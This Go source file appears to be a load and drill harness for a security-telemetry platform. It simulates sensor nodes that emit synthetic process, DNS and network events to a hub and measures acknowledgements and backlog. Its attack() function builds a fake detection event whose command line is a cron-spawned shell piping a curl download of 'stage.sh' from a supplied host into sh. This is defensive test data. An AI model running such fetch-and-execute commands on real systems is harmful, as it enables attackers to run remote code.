package main

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"noroshi/bus"
	"noroshi/event"
	"noroshi/sense/spool"
)

// sensor is a node that sees things: its spool, and its line to the hub.
type sensor struct {
	spool *spool.Spool
	seen  int
}

func (p *platform) newSensor(ctx context.Context, i int) (*sensor, error) {
	name := fmt.Sprintf("sensor-%04d", i)
	id, err := p.identify(ctx, p.orgs[i%len(p.orgs)], sensorRole, name)
	if err != nil {
		return nil, err
	}
	line, err := p.connect(id)
	if err != nil {
		return nil, err
	}
	s := &sensor{}
	s.spool, err = spool.Open(spool.Config{Dir: p.path("nodes", name, "spool"), Org: id.Org, Node: id.Node, Hostname: name, Product: "sensor", Version: "bench"},
		spool.Deps{Publisher: line, Encode: bus.EncodeBatch, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); _ = s.spool.Run(ctx) }()
	p.later(func() { cancel(); <-done; _ = s.spool.Close() })
	return s, nil
}

// everyday is what nodes mostly send: programs, look-ups, connections.
func (s *sensor) everyday() *event.Event {
	s.seen++
	e := &event.Event{Time: time.Now().UnixMilli(), Metadata: event.Metadata{Provider: event.TierEBPF},
		Device: &event.Device{Hostname: "host", OS: &event.OS{TypeID: 200}}}
	switch s.seen % 3 {
	case 0:
		e.ClassUID, e.ActivityID = event.ProcessActivity, event.ProcessLaunch
		e.Actor = parent("/usr/bin/bash")
		e.Process = &event.Process{PID: s.seen, File: &event.File{Path: "/usr/bin/python3.11"}, ParentProcess: &event.Process{File: &event.File{Path: "/usr/bin/bash"}},
			CmdLine: fmt.Sprintf("/usr/bin/python3 /opt/app/worker.py --queue mail --id %d --config /etc/app/worker.yml", s.seen)}
	case 1:
		e.ClassUID, e.ActivityID = event.DNSActivity, event.DNSTraffic
		e.Query = &event.DNSQueryInfo{Hostname: fmt.Sprintf("edge-%d.cdn.example.com", s.seen%977), Type: "A"}
	default:
		e.ClassUID, e.ActivityID = event.NetworkActivity, event.NetworkOpen
		e.Actor = parent("/usr/bin/python3.11")
		e.DstEndpoint = &event.Endpoint{IP: "192.0.2.10", Port: 443}
		e.ConnectionInfo = &event.ConnectionInfo{DirectionID: event.DirectionOutbound, ProtocolName: "tcp"}
	}
	return e
}

func parent(path string) *event.Actor {
	return &event.Actor{Process: &event.Process{PID: 6, File: &event.File{Path: path}}}
}

// attack is what the drill's rule detects.
func attack(name string) *event.Event {
	return &event.Event{ClassUID: event.ProcessActivity, ActivityID: event.ProcessLaunch, Time: time.Now().UnixMilli(), Actor: parent("/usr/sbin/cron"),
		Metadata: event.Metadata{Provider: event.TierEBPF}, Device: &event.Device{Hostname: "host", OS: &event.OS{TypeID: 200}},
		Process: &event.Process{PID: 7, File: &event.File{Path: "/usr/bin/dash"}, ParentProcess: &event.Process{File: &event.File{Path: "/usr/sbin/cron"}},
			CmdLine: "sh -c : curl -fsS http://" + name + "/stage.sh '|' sh"}}
}

// burst is how often a sensor sees something: a program that starts, its
// look-ups and its connections come together.
const burst = 100 * time.Millisecond

// traffic sends everyday events until the stop, which returns how many the hub
// acknowledged, and how old the oldest one was that still waited at a sensor.
func (p *platform) traffic(ctx context.Context) (stop func() (acked uint64, oldest time.Duration, err error)) {
	ctx, cancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	senders := p.sensors[1:]
	before := ackedBy(senders)
	each := p.perSec * int(burst/time.Millisecond) / 1000 / max(1, len(senders))
	errs := make([]error, len(senders))
	for i, s := range senders {
		wg.Go(func() {
			// Spread, so that they do not speak at one moment.
			first := time.NewTimer(burst * time.Duration(i) / time.Duration(len(senders)))
			defer first.Stop()
			<-first.C
			tick := time.NewTicker(burst)
			defer tick.Stop()
			for {
				for range each {
					if err := s.spool.Emit(s.everyday()); err != nil {
						errs[i] = err
						return
					}
				}
				select {
				case <-ctx.Done():
					return
				case <-tick.C:
				}
			}
		})
	}
	return func() (uint64, time.Duration, error) {
		cancel()
		var oldest time.Duration
		for _, s := range senders {
			oldest = max(oldest, s.spool.Stats().Oldest)
		}
		wg.Wait()
		return ackedBy(senders) - before, oldest, errors.Join(errs...)
	}
}

func ackedBy(list []*sensor) (n uint64) {
	for _, s := range list {
		n += s.spool.Stats().Acked
	}
	return n
}
